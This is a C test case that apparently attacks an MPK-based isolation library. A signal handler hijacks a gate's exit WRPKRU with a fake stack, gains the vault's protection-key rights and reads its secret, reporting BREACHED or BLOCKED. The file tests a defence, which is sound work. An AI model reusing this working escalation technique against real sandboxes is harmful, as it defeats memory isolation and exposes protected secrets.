/* The vault calls another protected library (libhop), and while it is in
 * there a signal is delivered inside (no_defer = SIGUSR2): the vault's call
 * out is under way while the application's handler runs.  The handler
 * jumps to the way out of a gate (the entry gate's, or the service gate's)
 * with the vault's rights and a stack of its own whose return address is
 * its own code.  Before the way back checked the stack the call out left
 * from, the count of calls out was all it asked for.
 * out_call gate|service */
#define _GNU_SOURCE
#include "attack.h"

#include "libprotect_symbols.h"

#include <pthread.h>
#include <stdint.h>

void hop_spin(void *ms);

static uint8_t stolen[VAULT_SECRET_LEN];
static uint64_t fake_stack[64] __attribute__((aligned(16)));
static const uint8_t *site;
static uint32_t vault_rights;
static int service;
static pthread_t victim;

/* Where the way out returns to, with whatever rights it wrote (the vault's:
 * the library confirms the secret through its nested path; then plain
 * writes, stdio's buffers being the application's business). */
static void landed(void)
{
    static const char yes[] = "BREACHED: read the library's secret with the rights a gate's way out gave back "
                              "for the vault\n";
    static const char no[] = "BLOCKED: what was read is not the secret\n";
    memcpy(stolen, (const void *)vault_address(VAULT_DATA)->secret, sizeof stolen);
    if (vault_matches(VAULT_DATA, stolen))
        _exit(write(1, yes, sizeof yes - 1) > 0 ? 0 : 3);
    _exit(write(1, no, sizeof no - 1) > 0 ? 0 : 3);
}

/* The Nth WRPKRU (from 1) at or after SYMBOL in libprotect. */
static const uint8_t *wrpkru_after(const char *symbol, int n)
{
    const uint8_t *p = libprotect_symbol(symbol);
    for (int i = 0; p && i < 4096; i++)
        if (p[i] == 0x0f && p[i + 1] == 0x01 && p[i + 2] == 0xef && --n == 0)
            return p + i;
    return NULL;
}

static void handler(int sig)
{
    /* The service gate's way out pops four registers before its ret. */
    fake_stack[service ? 36 : 32] = (uint64_t)(uintptr_t)landed;
    uint64_t *sp = &fake_stack[32];
    if (!service)
        /* The entry gate's way out: the rights in eax, the stack in r9. */
        __asm__ volatile("mov %0, %%r9\n mov %1, %%eax\n xor %%ecx, %%ecx\n xor %%edx, %%edx\n jmp *%2"
                         ::"r"(sp), "r"(vault_rights), "r"(site) : "rax", "rcx", "rdx", "r9", "memory");
    else
        /* The service gate's: the rights in r14d (and eax), the stack in r9,
         * a service that returns with a plain ret (0), the answer to a buffer. */
        __asm__ volatile("mov %0, %%r9\n mov %1, %%r14d\n mov %1, %%eax\n lea %3, %%r12\n xor %%r13d, %%r13d\n"
                         "xor %%ecx, %%ecx\n xor %%edx, %%edx\n jmp *%2"
                         ::"r"(sp), "r"(vault_rights), "r"(site), "m"(fake_stack[0])
                         : "rax", "rcx", "rdx", "r9", "r12", "r13", "r14", "memory");
}

static void *interfere(void *unused)
{
    usleep(100 * 1000); /* the vault is calling libhop */
    pthread_kill(victim, SIGUSR2);
    return NULL;
}

int main(int argc, char **argv)
{
    vault_open();
    service = argc > 1 && strcmp(argv[1], "service") == 0;
    const uint32_t *page = libprotect_symbol("protect_gate_page");
    /* The service gate's second WRPKRU is its way out. */
    site = service ? wrpkru_after("protect_service", 2) : wrpkru_after("protect_gate_contained", 1);
    if (!page || !site)
        blocked("libprotect's gates not found (a stripped libprotect only hides them)");
    vault_rights = page[0]; /* the vault is the first policy: domain 0 */
    signal(SIGUSR2, handler);
    victim = pthread_self();
    pthread_t t;
    pthread_create(&t, NULL, interfere, NULL);
    vault_through(hop_spin, (void *)(uintptr_t)400);
    pthread_join(t, NULL);
    blocked("the handler came back without the vault's rights");
}
